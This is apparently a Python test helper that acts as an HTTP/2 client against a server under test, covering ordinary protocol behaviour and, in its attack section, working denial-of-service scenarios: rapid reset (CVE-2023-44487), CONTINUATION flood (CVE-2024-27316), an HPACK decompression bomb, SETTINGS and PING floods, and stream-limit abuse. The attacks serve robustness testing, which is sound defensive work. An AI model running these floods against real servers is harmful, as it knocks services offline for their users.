"""HTTP/2 peers for ringo's server tests (h2_server_test.cpp, h2_attack_test.cpp), written with
Python's h2 package (python3-h2) and, for frames h2 would refuse to send, hyperframe and hpack.

  h2_peer.py SCENARIO HOST PORT [ARGS...]

Each scenario talks to the server on HOST:PORT and prints what it saw as "key value" lines, which
the C++ test reads; it exits 0 unless something it could not have expected happened (a timeout
waiting for the server included). The attacks run a normal client beside them on a second
connection (sequential GET /hello over HTTP/2) and print its latency ("latency_p50_ms",
"latency_max_ms", "latency_requests"): the server must stay responsive while it is attacked.

Run by Debian's /usr/bin/python3 (h2 4.1, hyperframe 6, hpack 4).
"""

import select
import socket
import statistics
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings
import hpack
import hyperframe.frame as hf

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def allow_frames_after_goaway():
    """h2 4.1 closes its connection state at any GOAWAY and then refuses every frame, while RFC
    9113 §6.8 has the streams up to the GOAWAY's last id go on (a graceful shutdown's answers
    come after its GOAWAY): the client here keeps receiving, and answering PINGs."""
    m = h2.connection.H2ConnectionStateMachine
    c = h2.connection.ConnectionInputs
    closed = h2.connection.ConnectionState.CLOSED
    for i in (c.RECV_HEADERS, c.RECV_DATA, c.RECV_WINDOW_UPDATE, c.RECV_PING, c.RECV_SETTINGS,
              c.RECV_RST_STREAM, c.RECV_PRIORITY, c.SEND_WINDOW_UPDATE, c.SEND_PING,
              c.SEND_SETTINGS, c.SEND_RST_STREAM):
        m._transitions.setdefault((closed, i), (None, closed))


allow_frames_after_goaway()


def say(key, value):
    print(f"{key} {value}", flush=True)


class Closed(Exception):
    pass


class Client:
    """A blocking HTTP/2 client on one connection (prior knowledge)."""

    def __init__(self, host, port, timeout=10.0, settings=None, connect=True):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=config)
        self.host, self.port = host, port
        self.responses = {}  # stream id -> dict(status, headers, body, trailers, ended, reset)
        self.events = []
        self.goaway = None  # (error_code, last_stream_id)
        self.closed = False
        if connect:
            self.conn.initiate_connection()
            if settings:
                self.conn.update_settings(settings)
            self.flush()

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def response(self, sid):
        return self.responses.setdefault(sid, {"status": None, "headers": [], "body": b"",
                                               "trailers": [], "ended": False, "reset": None,
                                               "informational": []})

    def pump(self, timeout=None, ack_data=True):
        """Reads once and handles the events; raises Closed at the connection's end."""
        if timeout is not None:
            self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(65536)
        except ConnectionResetError:
            data = b""
        if not data:
            self.closed = True
            raise Closed()
        for ev in self.conn.receive_data(data):
            self.events.append(ev)
            self.handle(ev, ack_data)
        self.flush()

    def handle(self, ev, ack_data):
        if isinstance(ev, h2.events.ResponseReceived):
            r = self.response(ev.stream_id)
            r["headers"] = ev.headers
            r["status"] = int(dict(ev.headers)[":status"])
        elif isinstance(ev, h2.events.InformationalResponseReceived):
            self.response(ev.stream_id)["informational"].append(int(dict(ev.headers)[":status"]))
        elif isinstance(ev, h2.events.DataReceived):
            self.response(ev.stream_id)["body"] += ev.data
            if ack_data and ev.flow_controlled_length:
                self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
        elif isinstance(ev, h2.events.TrailersReceived):
            self.response(ev.stream_id)["trailers"] = ev.headers
        elif isinstance(ev, h2.events.StreamEnded):
            self.response(ev.stream_id)["ended"] = True
        elif isinstance(ev, h2.events.StreamReset):
            self.response(ev.stream_id)["reset"] = int(ev.error_code)
        elif isinstance(ev, h2.events.ConnectionTerminated):
            self.goaway = (int(ev.error_code), ev.last_stream_id)

    def send_request(self, method, path, headers=(), body=None, end=True):
        sid = self.conn.get_next_available_stream_id()
        hdrs = [(":method", method), (":path", path), (":scheme", "http"),
                (":authority", f"{self.host}:{self.port}")] + list(headers)
        self.conn.send_headers(sid, hdrs, end_stream=(body is None and end))
        if body is not None:
            self.send_body(sid, body, end)
        self.flush()
        return sid

    def send_body(self, sid, body, end=True):
        view = memoryview(body)
        while view:
            window = min(self.conn.local_flow_control_window(sid),
                         self.conn.max_outbound_frame_size)
            if window <= 0:
                self.flush()
                self.pump(10)
                continue
            self.conn.send_data(sid, bytes(view[:window]))
            view = view[window:]
            self.flush()
        if end:
            self.conn.end_stream(sid)
            self.flush()

    def wait(self, sid, timeout=10.0):
        deadline = time.monotonic() + timeout
        r = self.response(sid)
        while not (r["ended"] or r["reset"] is not None):
            left = deadline - time.monotonic()
            if left <= 0:
                raise TimeoutError(f"stream {sid}: no end within {timeout} s")
            self.pump(left)
        return r

    def get(self, path, timeout=10.0, **kw):
        return self.wait(self.send_request("GET", path, **kw), timeout)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def latency_probe(host, port, stop, samples, errors):
    """GET /hello over HTTP/2 again and again on a connection of its own, until `stop`."""
    try:
        c = Client(host, port)
        while not stop.is_set():
            t = time.monotonic()
            r = c.get("/hello", timeout=10)
            if r["status"] != 200:
                errors.append(f"status {r['status']}")
            samples.append((time.monotonic() - t) * 1000)
            time.sleep(0.01)
        c.close()
    except Exception as e:  # noqa: BLE001 (reported, and the test fails on it)
        errors.append(repr(e))


class Probe:
    def __init__(self, host, port):
        self.stop = threading.Event()
        self.samples, self.errors = [], []
        self.thread = threading.Thread(target=latency_probe,
                                       args=(host, port, self.stop, self.samples, self.errors))

    def __enter__(self):
        self.thread.start()
        time.sleep(0.05)
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.thread.join(30)
        s = self.samples or [float("nan")]
        say("latency_requests", len(self.samples))
        say("latency_p50_ms", f"{statistics.median(s):.2f}")
        say("latency_max_ms", f"{max(s):.2f}")
        say("latency_errors", len(self.errors))
        for e in self.errors[:3]:
            say("latency_error", e)


def read_until_closed(c, timeout=10.0, ack_data=True):
    """Pumps until the server closes the connection; returns the seconds it took."""
    start = time.monotonic()
    deadline = start + timeout
    try:
        while time.monotonic() < deadline:
            c.pump(max(0.01, deadline - time.monotonic()), ack_data=ack_data)
    except (Closed, ConnectionResetError, BrokenPipeError):
        return time.monotonic() - start
    except socket.timeout:
        pass
    except h2.exceptions.ProtocolError:
        return time.monotonic() - start
    return None


def report_goaway(c):
    if c.goaway:
        say("goaway", h2.errors.ErrorCodes(c.goaway[0]).name)
        say("goaway_last_stream", c.goaway[1])
    else:
        say("goaway", "none")


def raw_connect(host, port, settings=None):
    """A socket that has sent the preface and an empty SETTINGS (frames written by hand)."""
    s = socket.create_connection((host, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sf = hf.SettingsFrame(0)
    if settings:
        sf.settings = settings
    s.sendall(PREFACE + sf.serialize())
    return s


class FrameReader:
    """The frames a raw socket receives, parsed as they come."""

    def __init__(self, s):
        self.s, self.buf, self.seen, self.goaway, self.closed = s, b"", {}, None, False
        self.frames = []

    def take_frames(self):
        frames, self.frames = self.frames, []
        return frames

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            frame, length = hf.Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            name = type(frame).__name__
            self.seen[name] = self.seen.get(name, 0) + 1
            self.frames.append(frame)
            if isinstance(frame, hf.GoAwayFrame):
                self.goaway = frame.error_code

    def poll(self):
        """Reads what is there without waiting; True once the server closed."""
        while not self.closed:
            r, _, _ = select.select([self.s], [], [], 0)
            if not r:
                break
            try:
                data = self.s.recv(65536)
            except ConnectionResetError:
                data = b""
            if not data:
                self.closed = True
                break
            self.feed(data)
        return self.closed


def raw_drain(s, timeout, reader=None):
    """Reads frames until the server closes; returns (seconds, frames by type, goaway code)."""
    reader = reader or FrameReader(s)
    start = time.monotonic()
    s.settimeout(0.2)
    while not reader.closed and time.monotonic() - start < timeout:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except ConnectionResetError:
            data = b""
        if not data:
            reader.closed = True
            break
        reader.feed(data)
    took = time.monotonic() - start if reader.closed else None
    return took, reader.seen, reader.goaway


def say_raw(took, seen, goaway):
    say("closed_after_s", "never" if took is None else f"{took:.3f}")
    say("goaway", "none" if goaway is None else h2.errors.ErrorCodes(goaway).name)
    for k, v in sorted(seen.items()):
        say(f"frames_{k}", v)


def request_block(enc, path, extra=()):
    return enc.encode([(":method", "GET"), (":path", path), (":scheme", "http"),
                       (":authority", "test")] + list(extra))


# --- Scenarios: behaviour ------------------------------------------------------------------------

def scenario_reset_stream(host, port):
    """A request reset by the client (RST_STREAM CANCEL); then another on the same connection."""
    c = Client(host, port)
    sid = c.send_request("GET", "/delay/5000")
    time.sleep(0.2)
    c.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
    c.flush()
    t = time.monotonic()
    r = c.get("/hello")
    say("after_reset_status", r["status"])
    say("after_reset_body", r["body"].decode())
    say("after_reset_ms", f"{(time.monotonic() - t) * 1000:.1f}")
    c.close()


def scenario_trailers_and_hints(host, port):
    c = Client(host, port)
    r = c.get("/trailers")
    say("trailers_status", r["status"])
    say("trailers_body", r["body"].decode())
    for k, v in r["trailers"]:
        say(f"trailer_{k}", v)
    r = c.get("/hints")
    say("hints_informational", ",".join(str(x) for x in r["informational"]) or "none")
    say("hints_status", r["status"])
    say("hints_body", r["body"].decode())
    r = c.wait(c.send_request("POST", "/echo", body=b"abc", headers=[("expect", "100-continue")]))
    say("continue_informational", ",".join(str(x) for x in r["informational"]) or "none")
    say("continue_body", r["body"].decode())
    c.close()


def scenario_request_view(host, port):
    """What a handler sees of an HTTP/2 request (the server echoes it)."""
    c = Client(host, port)
    r = c.get("/view?x=1", headers=[("cookie", "a=1"), ("cookie", "b=2"), ("x-thing", "yes")])
    say("view_status", r["status"])
    for line in r["body"].decode().splitlines():
        k, _, v = line.partition("=")
        say(f"view_{k}", v)
    for k, v in r["headers"]:
        if k in ("content-length", "date", "content-type", "connection"):
            say(f"header_{k}", v)
    c.close()


def scenario_throw(host, port):
    c = Client(host, port)
    r = c.get("/throw")
    say("throw_status", r["status"])
    say("throw_reset", r["reset"])
    r = c.get("/throw-late")
    say("late_status", r["status"])
    say("late_reset", "none" if r["reset"] is None else h2.errors.ErrorCodes(r["reset"]).name)
    r = c.get("/hello")
    say("then_status", r["status"])
    c.close()


def scenario_concurrent(host, port, n):
    """`n` streams open at once on one connection (the server's limit must allow them)."""
    n = int(n)
    c = Client(host, port, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
    # Wait for the server's SETTINGS, so that its stream limit is known.
    while c.conn.remote_settings.max_concurrent_streams == 2**32 - 1 or not any(
            isinstance(e, h2.events.RemoteSettingsChanged) for e in c.events):
        c.pump(10)
    say("server_max_streams", c.conn.remote_settings.max_concurrent_streams)
    sids = [c.send_request("GET", f"/concurrent?i={i}") for i in range(n)]
    deadline = time.monotonic() + 60
    while not all(c.response(s)["ended"] or c.response(s)["reset"] is not None for s in sids):
        c.pump(max(0.01, deadline - time.monotonic()))
        if time.monotonic() > deadline:
            raise TimeoutError("not every stream ended")
    ok = sum(1 for i, s in enumerate(sids)
             if c.response(s)["status"] == 200 and c.response(s)["body"] == f"hello {i}".encode())
    say("ok", ok)
    c.close()


def scenario_graceful_shutdown(host, port):
    """A slow request in flight when the server shuts down (the test starts the shutdown once the
    server has it), and a request sent after the first GOAWAY reached this client's socket but
    before this client read it: both are answered, then the connection ends in order."""
    c = Client(host, port)
    while not (any(isinstance(e, h2.events.RemoteSettingsChanged) for e in c.events) and
               any(isinstance(e, h2.events.SettingsAcknowledged) for e in c.events)):
        c.pump(10)
    slow = c.send_request("GET", "/delay/400")
    c.sock.settimeout(10)
    c.sock.recv(1, socket.MSG_PEEK)  # the first GOAWAY (and its PING) arrived, unread
    late = c.send_request("GET", "/hello")
    goaways = []
    took = None
    start = time.monotonic()
    try:
        while time.monotonic() - start < 10:
            c.pump(10)
            for e in c.events:
                if isinstance(e, h2.events.ConnectionTerminated):
                    g = (int(e.error_code), e.last_stream_id)
                    if g not in goaways:
                        goaways.append(g)
    except Closed:
        took = time.monotonic() - start
    say("slow_status", c.response(slow)["status"])
    say("slow_body", c.response(slow)["body"].decode())
    say("late_status", c.response(late)["status"])
    say("goaways", ",".join(f"{h2.errors.ErrorCodes(code).name}:{last}" for code, last in goaways))
    say("closed", "yes" if took is not None else "no")
    c.close()


def scenario_idle(host, port):
    c = Client(host, port)
    r = c.get("/hello")
    say("status", r["status"])
    took = read_until_closed(c, timeout=10)
    say("closed_after_s", "never" if took is None else f"{took:.3f}")
    report_goaway(c)
    c.close()


def scenario_slow_reader(host, port):
    """Two streams on one connection: the client opens no window for the first (it sets the
    initial window to 0 and opens only the connection's and the second stream's); the second
    completes, the first is reset once the server gives up on it."""
    c = Client(host, port, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    c.conn.increment_flow_control_window(1 << 24)  # the connection's window
    stalled = c.send_request("GET", "/bytes/100000")
    flowing = c.send_request("GET", "/bytes/100000")
    c.conn.increment_flow_control_window(1 << 24, stream_id=flowing)
    c.flush()
    start = time.monotonic()
    c.wait(flowing, 10)
    say("flowing_status", c.response(flowing)["status"])
    say("flowing_bytes", len(c.response(flowing)["body"]))
    say("flowing_ms", f"{(time.monotonic() - start) * 1000:.1f}")
    r = c.wait(stalled, 20)
    say("stalled_bytes", len(r["body"]))
    say("stalled_reset", "none" if r["reset"] is None else h2.errors.ErrorCodes(r["reset"]).name)
    say("stalled_reset_after_s", f"{time.monotonic() - start:.3f}")
    # The connection still serves.
    c.conn.increment_flow_control_window(1 << 20)
    c.flush()
    sid = c.send_request("GET", "/hello")
    c.conn.increment_flow_control_window(1 << 20, stream_id=sid)
    c.flush()
    say("then_status", c.wait(sid)["status"])
    c.close()


def scenario_upload_window(host, port, size):
    """A body larger than the stream's window: the client can only send as the handler reads."""
    body = bytes(i % 251 for i in range(int(size)))
    c = Client(host, port)
    r = c.wait(c.send_request("POST", "/echo", body=body), 60)
    say("status", r["status"])
    say("same", "yes" if r["body"] == body else "no")
    c.close()


def scenario_stalled_body(host, port, how):
    """A body that stops coming (no END_STREAM): the client resets the stream ("reset"), or waits
    for the server's read timeout to end the handler's read ("wait")."""
    c = Client(host, port)
    sid = c.send_request("POST", "/read-body", body=b"0123456789", end=False)
    if how == "reset":
        time.sleep(0.2)
        c.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
        c.flush()
        r = c.get("/hello")
        say("then_status", r["status"])
    else:
        r = c.wait(sid, 10)
        say("status", r["status"])
        say("body", r["body"].decode())
    c.close()


def scenario_reset_bodies(host, port, streams):
    """Streams that send their whole body and are reset at once, before a handler could read it:
    the connection's window must get those bytes back, or the last request below (which needs
    the window) would stall."""
    streams = int(streams)
    c = Client(host, port)
    while not any(isinstance(e, h2.events.RemoteSettingsChanged) for e in c.events):
        c.pump(10)
    body = b"r" * 8000  # with its HEADERS and RST_STREAM, within one 16 KB read of the server
    base = [(":scheme", "http"), (":authority", f"{host}:{port}")]
    for _ in range(streams):
        while c.conn.outbound_flow_control_window < len(body):
            c.pump(10)  # the window comes back, or this times out
        # HEADERS, DATA and RST_STREAM in one write: the server sees the stream reset before a
        # handler could start, let alone read.
        sid = c.conn.get_next_available_stream_id()
        c.conn.send_headers(sid, [(":method", "POST"), (":path", "/echo")] + base)
        c.conn.send_data(sid, body, end_stream=True)
        c.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
        c.flush()
    r = c.wait(c.send_request("POST", "/echo", body=body), 10)
    say("last_status", r["status"])
    say("last_same", "yes" if r["body"] == body else "no")
    c.close()


def scenario_get(host, port, path):
    """One GET; prints its status once the stream has ended."""
    c = Client(host, port)
    r = c.get(path)
    say("status", r["status"])
    say("reset", r["reset"])
    c.close()


def scenario_reset_held_body(host, port):
    """A stream whose handler sleeps without reading (nor watching its token) fills the
    connection's window with its body and is reset: the window must come back at the reset, not
    when the handler returns, or the next upload waits for it. Prints the next upload's time."""
    c = Client(host, port)
    while not any(isinstance(e, h2.events.RemoteSettingsChanged) for e in c.events):
        c.pump(10)
    sid = c.send_request("POST", "/hold", end=False)
    c.send_body(sid, b"h" * c.conn.outbound_flow_control_window, end=False)
    time.sleep(0.2)  # the handler holds it
    c.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
    c.flush()
    start = time.monotonic()
    r = c.wait(c.send_request("POST", "/echo", body=b"n" * 8000), 20)
    say("next_ms", int((time.monotonic() - start) * 1000))
    say("next_status", r["status"])
    c.close()


def scenario_body_after_answer(host, port, seconds):
    """The handler answers without reading and returns, but its answer cannot leave (the client
    opens no window for it), so the stream stays open: the client keeps sending DATA for SECONDS.
    The server may read at most about a stream window of it (Go's processData gives the
    connection's window back for a body nobody reads, not the stream's). Prints the bytes sent."""
    c = Client(host, port, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    while not any(isinstance(e, h2.events.RemoteSettingsChanged) for e in c.events):
        c.pump(10)
    sid = c.send_request("POST", "/hello", end=False)
    sent = 0
    deadline = time.monotonic() + float(seconds)
    while time.monotonic() < deadline:
        window = min(c.conn.local_flow_control_window(sid), c.conn.max_outbound_frame_size)
        if window > 0:
            c.conn.send_data(sid, b"d" * window)
            sent += window
            c.flush()
            continue
        try:
            c.pump(0.1, ack_data=False)
        except (socket.timeout, TimeoutError):
            pass
        if c.response(sid)["reset"] is not None:
            break
    say("sent", sent)
    c.close()


def scenario_abort_then_read(host, port):
    """The handler aborts its response (RST_STREAM from the server), then reads the body, which
    the client keeps open: the read must end at once, not wait for the client."""
    c = Client(host, port)
    sid = c.send_request("POST", "/abort-read", body=b"partial", end=False)
    r = c.wait(sid, 10)
    say("reset", r["reset"])
    time.sleep(1.5)  # the connection stays: the read must not need its end
    c.close()


# --- Scenarios: attacks --------------------------------------------------------------------------

def scenario_rapid_reset(host, port, rounds):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), again and again, without waiting."""
    rounds = int(rounds)
    with Probe(host, port):
        s = raw_connect(host, port)
        enc = hpack.Encoder()
        sid = 1
        sent = 0
        batch = b""
        try:
            for _ in range(rounds):
                h = hf.HeadersFrame(sid)
                h.flags.add("END_HEADERS")
                h.flags.add("END_STREAM")
                h.data = request_block(enc, "/slow")
                r = hf.RstStreamFrame(sid)
                r.error_code = h2.errors.ErrorCodes.CANCEL
                batch += h.serialize() + r.serialize()
                sid += 2
                sent += 1
                if len(batch) > 16384:
                    s.sendall(batch)
                    batch = b""
            s.sendall(batch)
        except (BrokenPipeError, ConnectionResetError):
            pass
        say("pairs_sent", sent)
        say_raw(*raw_drain(s, 15))
        s.close()


def scenario_continuation_flood(host, port, frame_size, frames):
    """CVE-2024-27316: HEADERS without END_HEADERS, then CONTINUATION frames that never end. The
    client looks for the server's answer between its frames, as a flood that wants to know
    when it is cut off does (one that never reads learns it from a reset connection)."""
    frame_size, frames = int(frame_size), int(frames)
    with Probe(host, port):
        s = raw_connect(host, port)
        enc = hpack.Encoder()
        h = hf.HeadersFrame(1)
        h.data = request_block(enc, "/hello")
        sent = 0
        reader = FrameReader(s)
        try:
            s.sendall(h.serialize())
            # Literal fields without indexing, each ~frame_size: valid HPACK the server decodes.
            field = hpack.Encoder()
            for i in range(frames):
                cf = hf.ContinuationFrame(1)
                value = b"v" * max(1, frame_size - 40)
                cf.data = field.encode([(b"x-flood-%d" % i, value)], huffman=False)[:frame_size]
                s.sendall(cf.serialize())
                sent += 1
                if reader.poll() or reader.goaway is not None:
                    break
        except (BrokenPipeError, ConnectionResetError):
            pass
        say("continuations_sent", sent)
        took, seen, goaway = raw_drain(s, 10, reader)
        say_raw(took, seen, goaway)
        s.close()


def scenario_hpack_bomb(host, port, refs):
    """A 4 KB field put in the dynamic table once, then referenced by its one-byte index many
    times: a small header block that decodes to a huge list."""
    refs = int(refs)
    with Probe(host, port):
        s = raw_connect(host, port)
        enc = hpack.Encoder()
        block = request_block(enc, "/hello")
        big = b"x" * 4000
        # Literal with incremental indexing, new name (RFC 7541 §6.2.1): it becomes index 62.
        block += b"\x40" + bytes(hpack.hpack.encode_integer(6, 7)) + b"x-bomb" + \
            bytes(hpack.hpack.encode_integer(len(big), 7)) + big
        block += b"\xbe" * refs  # indexed field 62 (0x80 | 62)
        chunk = 16000  # within the 16,384 a client may send before it sees the server's SETTINGS
        parts = [block[i:i + chunk] for i in range(0, len(block), chunk)]
        frames = []
        for i, part in enumerate(parts):
            f = hf.HeadersFrame(1) if i == 0 else hf.ContinuationFrame(1)
            if i == 0:
                f.flags.add("END_STREAM")
            if i == len(parts) - 1:
                f.flags.add("END_HEADERS")
            f.data = part
            frames.append(f.serialize())
        say("block_bytes", len(block))
        say("frames", len(parts))
        reader = FrameReader(s)
        status = "closed"
        try:
            s.sendall(b"".join(frames))
        except (BrokenPipeError, ConnectionResetError):
            pass
        dec = hpack.Decoder()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and not reader.closed and reader.goaway is None:
            reader.poll()
            for f in reader.take_frames():
                if isinstance(f, hf.HeadersFrame) and f.stream_id == 1:
                    status = dict(dec.decode(f.data)).get(":status", "?")
            if status != "closed":
                break
            time.sleep(0.01)
        say("status", status)
        say("goaway", "none" if reader.goaway is None else
            h2.errors.ErrorCodes(reader.goaway).name)
        s.close()


def scenario_settings_flood(host, port, count, read):
    """SETTINGS frames, each to be acknowledged, sent as fast as possible by a client that reads
    nothing (read=0) or everything (read=1)."""
    flood_frames(host, port, int(count), int(read), lambda: hf.SettingsFrame(0, settings={
        h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100}).serialize())


def scenario_ping_flood(host, port, count, read):
    flood_frames(host, port, int(count), int(read),
                 lambda: hf.PingFrame(0, opaque_data=b"12345678").serialize())


def flood_frames(host, port, count, read, make):
    with Probe(host, port):
        s = raw_connect(host, port)
        frame = make()
        sent = 0
        stop = threading.Event()
        got = []

        # The reader polls its own socket object (its 0.2 s timeout ends it when stopped); the
        # sender's own timeout is long, so that a reader starved on a loaded machine, while the
        # server waits for it to read, does not end the flood early.
        r = s.dup()

        def reader():
            while not stop.is_set():
                try:
                    d = r.recv(65536)
                except (socket.timeout, OSError):
                    if stop.is_set():
                        return
                    continue
                if not d:
                    return
                got.append(len(d))

        t = None
        if read:
            r.settimeout(0.2)
            s.settimeout(30)
            t = threading.Thread(target=reader)
            t.start()
        batch = frame * 1000
        start = time.monotonic()
        try:
            while sent < count:
                s.sendall(batch)
                sent += 1000
        except (BrokenPipeError, ConnectionResetError, socket.timeout):
            pass
        say("frames_sent", sent)
        say("send_s", f"{time.monotonic() - start:.3f}")
        if t:
            stop.set()
            t.join()
            say("bytes_read", sum(got))
            r.close()
            s.close()
            return
        r.close()
        say_raw(*raw_drain(s, 10))
        s.close()


def scenario_too_many_streams(host, port, limit, ack="0"):
    """More streams than the server allows, opened before this client acknowledges the server's
    SETTINGS (the usual race: a client starts before it has seen the limit), or after (ack=1)."""
    limit = int(limit)
    s = raw_connect(host, port)
    if ack == "1":
        reader = FrameReader(s)
        while not reader.seen.get("SettingsFrame"):
            s.settimeout(5)
            reader.feed(s.recv(65536))
        s.sendall(hf.SettingsFrame(0, flags=["ACK"]).serialize())
        time.sleep(0.1)  # the server has the ACK before the streams
    enc = hpack.Encoder()
    frames = b""
    for i in range(limit + 5):
        h = hf.HeadersFrame(1 + 2 * i)
        h.flags.add("END_HEADERS")
        h.flags.add("END_STREAM")
        h.data = request_block(enc, "/delay/300")
        frames += h.serialize()
    s.sendall(frames)
    # Read until every stream is answered or reset; ACK nothing (the limit stays "pending").
    buf = b""
    answered, refused, other = set(), set(), {}
    goaway = None
    start = time.monotonic()
    s.settimeout(0.5)
    dec = hpack.Decoder()
    while len(answered) + len(refused) + sum(other.values()) < limit + 5 and \
            goaway is None and time.monotonic() - start < 10:
        try:
            d = s.recv(65536)
        except socket.timeout:
            continue
        if not d:
            break
        buf += d
        while len(buf) >= 9:
            frame, length = hf.Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9:9 + length]))
            buf = buf[9 + length:]
            if isinstance(frame, hf.HeadersFrame):
                dec.decode(frame.data)
                answered.add(frame.stream_id)
            elif isinstance(frame, hf.GoAwayFrame):
                goaway = frame.error_code
            elif isinstance(frame, hf.RstStreamFrame):
                if frame.error_code == h2.errors.ErrorCodes.REFUSED_STREAM:
                    refused.add(frame.stream_id)
                else:
                    name = h2.errors.ErrorCodes(frame.error_code).name
                    other[name] = other.get(name, 0) + 1
    say("answered", len(answered))
    say("refused", len(refused))
    say("goaway", "none" if goaway is None else h2.errors.ErrorCodes(goaway).name)
    say("first_refused", min(refused) if refused else 0)
    for k, v in other.items():
        say(f"reset_{k}", v)
    s.close()


def main():
    name, host, port, *args = sys.argv[1:]
    globals()["scenario_" + name](host, int(port), *args)


if __name__ == "__main__":
    main()
